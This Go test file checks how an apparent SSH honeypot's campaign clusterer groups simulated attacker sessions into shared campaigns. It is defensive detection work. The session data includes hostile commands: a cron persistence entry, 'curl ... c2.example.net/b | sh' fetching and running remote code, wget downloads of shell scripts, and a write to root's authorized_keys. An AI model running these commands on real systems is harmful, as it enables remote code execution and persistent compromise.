package campaign

import (
	"context"
	"fmt"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/decnet/decnet/internal/cluster/identity"
	"github.com/decnet/decnet/internal/ingest"
	"github.com/decnet/decnet/internal/services"
	"github.com/decnet/decnet/internal/store"
	"github.com/decnet/decnet/internal/store/sqlstore"
)

var t0 = time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC)

// pipeline is a real SQLite store with the identity and campaign
// clusterers over it, as `decnet up` runs them.
type pipeline struct {
	t     *testing.T
	st    *sqlstore.Store
	ident *identity.Clusterer
	camp  *Clusterer
	now   time.Time
	seq   int
}

func newPipeline(t *testing.T) *pipeline {
	t.Helper()
	p := &pipeline{t: t, now: t0}
	st, err := sqlstore.Open(context.Background(), filepath.Join(t.TempDir(), "decnet.db"), sqlstore.Options{Now: p.clock})
	if err != nil {
		t.Fatalf("open store: %v", err)
	}
	t.Cleanup(func() { st.Close() })
	p.st = st
	p.ident = identity.New(st, identity.Options{Now: p.clock, NewUUID: counter("id")})
	p.camp = New(st, Options{Now: p.clock, NewUUID: counter("cmp")})
	return p
}

func (p *pipeline) clock() time.Time { return p.now }

func counter(prefix string) func() string {
	n := 0
	return func() string {
		n++
		return fmt.Sprintf("%s-%04d", prefix, n)
	}
}

// session writes the events of one SSH session from ip on decky at at:
// connect with a HASSH, one command event per command a second apart,
// disconnect.
func (p *pipeline) session(ip, hassh, decky string, at time.Time, commands ...string) {
	p.t.Helper()
	p.seq++
	sess := fmt.Sprintf("s%04d", p.seq)
	var batch []sqlstore.Observation
	add := func(kind string, when time.Time, fields map[string]string) {
		p.seq++
		e := services.Event{ID: fmt.Sprintf("e%06d", p.seq), Time: when, Decky: decky, Service: "ssh", Kind: kind,
			SrcIP: ip, SrcPort: 40000, Session: sess, Fields: fields}
		batch = append(batch, ingest.Observe(e))
	}
	var connect map[string]string
	if hassh != "" {
		connect = map[string]string{services.FieldHASSH: hassh}
	}
	add(services.KindConnect, at, connect)
	for i, cmd := range commands {
		add(services.KindCommand, at.Add(time.Duration(i+1)*time.Second), map[string]string{services.FieldCommand: cmd})
	}
	add(services.KindDisconnect, at.Add(time.Duration(len(commands)+1)*time.Second), nil)
	if _, err := p.st.IngestBatch(context.Background(), batch); err != nil {
		p.t.Fatalf("ingest: %v", err)
	}
}

// tick runs the identity tick then the campaign tick.
func (p *pipeline) tick() Result {
	p.t.Helper()
	p.now = p.now.Add(time.Minute)
	if _, err := p.ident.Tick(context.Background()); err != nil {
		p.t.Fatalf("identity tick: %v", err)
	}
	res, err := p.camp.Tick(context.Background())
	if err != nil {
		p.t.Fatalf("campaign tick: %v", err)
	}
	return res
}

// campaignsOf maps each attacker address to its effective campaign.
func (p *pipeline) campaignsOf(ips ...string) map[string]string {
	p.t.Helper()
	ctx := context.Background()
	out := map[string]string{}
	for _, ip := range ips {
		a, err := p.st.GetAttacker(ctx, ip)
		if err != nil || a.IdentityID == nil {
			p.t.Fatalf("attacker %s: %v (identity %v)", ip, err, a.IdentityID)
		}
		id, err := p.st.GetIdentity(ctx, *a.IdentityID)
		if err != nil {
			p.t.Fatal(err)
		}
		if id.CampaignID == nil {
			out[ip] = ""
			continue
		}
		c, err := p.st.GetCampaign(ctx, *id.CampaignID)
		if err != nil {
			p.t.Fatal(err)
		}
		out[ip] = c.UUID
	}
	return out
}

const (
	hasshA = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"
	hasshB = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
	hasshC = "cccccccccccccccccccccccccccccccc"
)

func TestTickHandoffJoinsTwoIdentities(t *testing.T) {
	p := newPipeline(t)
	p.session("198.51.100.1", hasshA, "web1", t0, "echo '* * * * * /tmp/.x' | crontab -", "curl -s http://c2.example.net/b | sh")
	p.session("203.0.113.7", hasshB, "web1", t0.Add(6*time.Hour), "whoami", "uname -a", "ssh root@10.0.0.5")
	p.session("192.0.2.9", hasshC, "db1", t0.Add(2*time.Hour), "whoami")
	res := p.tick()

	got := p.campaignsOf("198.51.100.1", "203.0.113.7", "192.0.2.9")
	if got["198.51.100.1"] == "" || got["198.51.100.1"] != got["203.0.113.7"] {
		t.Errorf("handoff pair campaigns = %v, want one shared campaign", got)
	}
	if got["192.0.2.9"] == got["198.51.100.1"] {
		t.Errorf("unrelated identity joined the handoff campaign: %v", got)
	}
	if len(res.Formed) != 2 || len(res.IdentityAssigned) != 3 {
		t.Errorf("first tick formed %d campaigns and assigned %d identities, want 2 and 3: %+v", len(res.Formed), len(res.IdentityAssigned), res)
	}

	c, err := p.st.GetCampaign(context.Background(), got["203.0.113.7"])
	if err != nil {
		t.Fatal(err)
	}
	if c.IdentityCount != 2 || c.ObservationCount != 2 || c.Confidence == nil {
		t.Errorf("rollup = identities %d observations %d confidence %v, want 2, 2, set", c.IdentityCount, c.ObservationCount, c.Confidence)
	}
	if diff := cmp.Diff(c.HASSHHashes, []string{hasshA, hasshB}); diff != "" {
		t.Errorf("campaign HASSH list (-got +want):\n%s", diff)
	}
	if !c.FirstSeenAt.Equal(t0) {
		t.Errorf("first_seen_at = %v, want the first event time %v", c.FirstSeenAt, t0)
	}

	// Nothing changed: nothing is written or published.
	if res := p.tick(); !res.Empty() {
		t.Errorf("second tick = %+v, want empty", res)
	}
	after, _ := p.st.GetCampaign(context.Background(), got["203.0.113.7"])
	if !after.UpdatedAt.Equal(c.UpdatedAt) {
		t.Errorf("idle tick rewrote the campaign: updated_at %v → %v", c.UpdatedAt, after.UpdatedAt)
	}
}

func TestTickHandoffOutsideWindowStaysApart(t *testing.T) {
	for _, tc := range []struct {
		name string
		gap  time.Duration
		want bool
	}{
		{"inside window", 23 * time.Hour, true},
		{"outside window", 25 * time.Hour, false},
		{"before the persistence", -3 * time.Hour, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := newPipeline(t)
			p.session("198.51.100.1", hasshA, "web1", t0, "crontab -l", "echo x >> /root/.ssh/authorized_keys")
			p.session("203.0.113.7", hasshB, "web1", t0.Add(tc.gap), "id")
			p.tick()
			got := p.campaignsOf("198.51.100.1", "203.0.113.7")
			if same := got["198.51.100.1"] == got["203.0.113.7"]; same != tc.want {
				t.Errorf("same campaign = %v, want %v (%v)", same, tc.want, got)
			}
		})
	}
}

func TestTickNewIdentityIsAssignedNotMinted(t *testing.T) {
	p := newPipeline(t)
	p.session("198.51.100.1", hasshA, "web1", t0, "crontab -l")
	p.tick()
	first := p.campaignsOf("198.51.100.1")["198.51.100.1"]

	p.session("203.0.113.7", hasshB, "web1", t0.Add(time.Hour), "whoami")
	res := p.tick()
	if len(res.Formed) != 0 || len(res.Assigned) != 1 {
		t.Fatalf("tick = %+v, want one assignment and no new campaign", res)
	}
	a := res.Assigned[0]
	if a.CampaignUUID != first || a.PriorCampaignUUID != nil {
		t.Errorf("assigned = %+v, want campaign %s with no prior", a, first)
	}
	if got := p.campaignsOf("203.0.113.7")["203.0.113.7"]; got != first {
		t.Errorf("new identity campaign = %s, want %s", got, first)
	}
}

func TestTickBridgeMergesAndSplitUnmerges(t *testing.T) {
	p := newPipeline(t)
	// Two campaigns on two deckies.
	p.session("198.51.100.1", hasshA, "web1", t0, "crontab -l")
	p.session("198.51.100.2", hasshA+"0", "db1", t0, "crontab -l")
	p.tick()
	before := p.campaignsOf("198.51.100.1", "198.51.100.2")
	if before["198.51.100.1"] == before["198.51.100.2"] {
		t.Fatalf("campaigns joined too early: %v", before)
	}

	// A third identity takes over both deckies: one campaign.
	p.session("203.0.113.7", hasshB, "web1", t0.Add(time.Hour), "whoami")
	p.session("203.0.113.7", hasshB, "db1", t0.Add(time.Hour), "whoami")
	res := p.tick()
	after := p.campaignsOf("198.51.100.1", "198.51.100.2", "203.0.113.7")
	if after["198.51.100.1"] != after["198.51.100.2"] || after["198.51.100.2"] != after["203.0.113.7"] {
		t.Fatalf("bridge did not join the campaigns: %v", after)
	}
	if len(res.Merged) != 1 {
		t.Fatalf("merged events = %+v, want 1", res.Merged)
	}
	winner, loser := res.Merged[0].WinnerUUID, res.Merged[0].LoserUUID
	if winner > loser {
		t.Errorf("winner %s sorts after loser %s, want the smallest UUID", winner, loser)
	}
	// The identity of the loser's campaign now resolves elsewhere: it is
	// reported even though its campaign_id did not change.
	var moved []string
	for _, a := range res.IdentityAssigned {
		moved = append(moved, a.IdentityUUID)
	}
	if len(moved) != 2 {
		t.Errorf("identity.campaign.assigned for %v, want the bridge and the loser's identity", moved)
	}
	page, total, err := p.st.ListCampaigns(context.Background(), store.Page{})
	if err != nil || total != 1 || len(page) != 1 {
		t.Errorf("active campaigns = %d (%v), want 1", total, err)
	}
	ids, n, err := p.st.ListIdentitiesForCampaign(context.Background(), loser, store.Page{})
	if err != nil || n != 3 || len(ids) != 3 {
		t.Errorf("identities of merged campaign via loser uuid = %d (%v), want 3", n, err)
	}
}

func TestTickMergedOutIdentityFollowsWinner(t *testing.T) {
	p := newPipeline(t)
	// Two addresses, two identities, two campaigns on different deckies.
	p.session("198.51.100.1", hasshA, "web1", t0, "wget http://x.example.org/a")
	p.session("198.51.100.2", hasshB, "db1", t0.Add(48*time.Hour), "wget http://y.example.org/b")
	p.tick()
	before := p.campaignsOf("198.51.100.1", "198.51.100.2")
	if before["198.51.100.1"] == before["198.51.100.2"] {
		t.Fatalf("campaigns joined too early: %v", before)
	}
	// A third address with no fingerprint fetches from both hosts: the
	// identity layer merges the two identities, so the campaigns must
	// become one.
	p.session("192.0.2.5", "", "mail1", t0.Add(72*time.Hour), "wget http://x.example.org/a", "wget http://y.example.org/b")
	p.tick()
	after := p.campaignsOf("198.51.100.1", "198.51.100.2", "192.0.2.5")
	if after["198.51.100.1"] != after["198.51.100.2"] || after["198.51.100.1"] != after["192.0.2.5"] {
		t.Errorf("identity merge did not carry the campaigns along: %v", after)
	}
	if res := p.tick(); !res.Empty() {
		t.Errorf("tick after the merge = %+v, want empty", res)
	}
}

func TestTickSharedInfraAcrossTools(t *testing.T) {
	p := newPipeline(t)
	p.session("198.51.100.1", hasshA, "web1", t0, "wget http://203.0.113.50/x.sh")
	p.session("203.0.113.7", hasshB, "db1", t0.Add(40*24*time.Hour), "wget http://203.0.113.50/x.sh")
	p.tick()
	got := p.campaignsOf("198.51.100.1", "203.0.113.7")
	if got["198.51.100.1"] != got["203.0.113.7"] {
		t.Errorf("identical C2 across different tools did not join: %v", got)
	}
}

func TestTickEmptyStore(t *testing.T) {
	p := newPipeline(t)
	if res := p.tick(); !res.Empty() {
		t.Errorf("tick on an empty store = %+v", res)
	}
}

func TestTickMatchesKernel(t *testing.T) {
	// The tick's partition equals the kernel's on the same features.
	p := newPipeline(t)
	ips := []string{}
	for i := range 12 {
		ip := fmt.Sprintf("198.51.100.%d", i+1)
		ips = append(ips, ip)
		decky := fmt.Sprintf("d%d", i%4)
		cmd := "whoami"
		if i%3 == 0 {
			cmd = "crontab -l"
		}
		p.session(ip, fmt.Sprintf("%032d", i), decky, t0.Add(time.Duration(i)*5*time.Hour), cmd)
	}
	p.tick()
	got := p.campaignsOf(ips...)
	groups := map[string][]string{}
	for _, ip := range ips {
		groups[got[ip]] = append(groups[got[ip]], ip)
	}
	var sizes []int
	for _, g := range groups {
		sizes = append(sizes, len(g))
	}
	slices.Sort(sizes)
	var fs []Features
	for _, s := range p.camp.idx.slots {
		fs = append(fs, *p.camp.idx.Features(s))
	}
	want := map[string]int{}
	for _, l := range naiveCluster(fs) {
		want[l]++
	}
	var wantSizes []int
	for _, n := range want {
		wantSizes = append(wantSizes, n)
	}
	slices.Sort(wantSizes)
	if diff := cmp.Diff(sizes, wantSizes); diff != "" {
		t.Errorf("campaign sizes (-tick +kernel):\n%s", diff)
	}
}
